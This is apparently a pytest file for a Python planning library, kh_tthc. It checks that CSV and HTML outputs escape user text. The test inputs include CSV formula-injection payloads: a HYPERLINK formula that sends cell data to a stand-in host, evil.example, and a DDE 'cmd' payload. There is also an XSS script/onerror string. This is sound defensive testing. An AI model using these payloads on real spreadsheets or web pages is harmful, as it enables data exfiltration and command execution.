"""What the library writes cannot run: no formula in a CSV, no markup in HTML.

Issue "Hardening", item 6 (CSV formula injection) and the "Outputs" part of the issue.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st

from kh_tthc import Report, load_plan, load_progress
from kh_tthc.cli import main, report_csv
from kh_tthc.io.csv_safe import FORMULA_STARTS, escape_cell, unescape_cell
from kh_tthc.progress import dumps_progress, loads_progress
from tests.conftest import SEED_PLAN
from tests.hostile.helpers import PROGRESS_Q4, seed_json_data, write_json

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1",
    "\r=1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


class TestCsvFormulas:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_schedule_csv(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str], attack: str
    ) -> None:
        """`schedule --format csv`: a title a spreadsheet would run starts with "'"."""
        data = seed_json_data()
        for task in data["tasks"]:
            task["title"] = attack + " " + task["title"]
        plan = write_json(tmp_path / "p.json", data)
        out = tmp_path / "agenda.csv"
        assert (
            main(
                ["schedule", str(plan), "--as-of", "2025-10-01", "--format", "csv", "-o", str(out)]
            )
            == 0
        )
        rows = _cells(out.read_text(encoding="utf-8"))
        titles = [r[rows[0].index("title")] for r in rows[1:]]
        assert titles
        assert all(t.startswith("'") for t in titles)
        assert all(not t.startswith(FORMULA_STARTS) for row in rows for t in row)

    @pytest.mark.parametrize("attack", ATTACKS[:3])
    def test_report_csv(self, attack: str) -> None:
        """The report CSV (with its BOM, for Excel) escapes text; numbers stay numbers."""
        plan = load_plan(SEED_PLAN)
        plan = evolve(plan, tasks=tuple(evolve(t, title=attack + t.title) for t in plan.tasks))
        q4 = load_progress(PROGRESS_Q4, plan)
        report = Report(plan=plan, period=q4.period, progress=q4, as_of=date(2025, 12, 15))
        rows = _cells(report_csv(report))
        header = rows[0]
        titles = [r[header.index("title")] for r in rows[1:]]
        assert titles
        assert all(t.startswith("'" + attack) for t in titles)
        assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
        groups = [r[header.index("group")] for r in rows[1:]]
        assert all(g.isdigit() for g in groups)  # numbers stay numbers

    @given(
        st.sampled_from(["=", "+", "-", "@", "'=", "''+"]),
        st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=20),
    )
    def test_progress_round_trip(self, start: str, rest: str) -> None:
        """A progress CSV written by the library reads back with its text exactly."""
        plan = load_plan(SEED_PLAN)
        q4 = load_progress(PROGRESS_Q4, plan)
        text = (start + rest).strip()
        row = evolve(q4.rows[0], result=text, difficulty=text)
        changed = evolve(q4, rows=(row, *q4.rows[1:]))
        written = dumps_progress(changed, plan)
        back = loads_progress(written, plan, format="csv")
        assert back.rows[0].result == row.result
        assert back.rows[0].difficulty == row.difficulty

    @given(st.text())
    def test_escape_then_unescape_is_identity(self, text: str) -> None:
        """escape_cell and unescape_cell are inverse for every text."""
        escaped = escape_cell(text)
        assert isinstance(escaped, str)
        assert not escaped.startswith(FORMULA_STARTS)
        assert unescape_cell(escaped) == text

    def test_numbers_are_not_text(self) -> None:
        assert escape_cell(-5) == -5
        assert escape_cell(-2.5) == -2.5


class TestHtml:
    def test_plan_and_report_escape_user_text(self) -> None:
        """`_repr_html_` of a plan and a report shows markup in titles as text."""
        plan = load_plan(SEED_PLAN)
        evil = "<script>alert(1)</script><img src=x onerror=alert(2)>"
        first = plan.tasks[0]
        plan = evolve(plan, title=evil, tasks=(evolve(first, title=evil), *plan.tasks[1:]))
        q4 = load_progress(PROGRESS_Q4, plan)
        report = Report(plan=plan, period=q4.period, progress=q4, as_of=date(2025, 12, 15))
        for html in (plan._repr_html_(), report._repr_html_()):
            assert "<script>" not in html
            assert "<img" not in html
            assert "&lt;script&gt;" in html
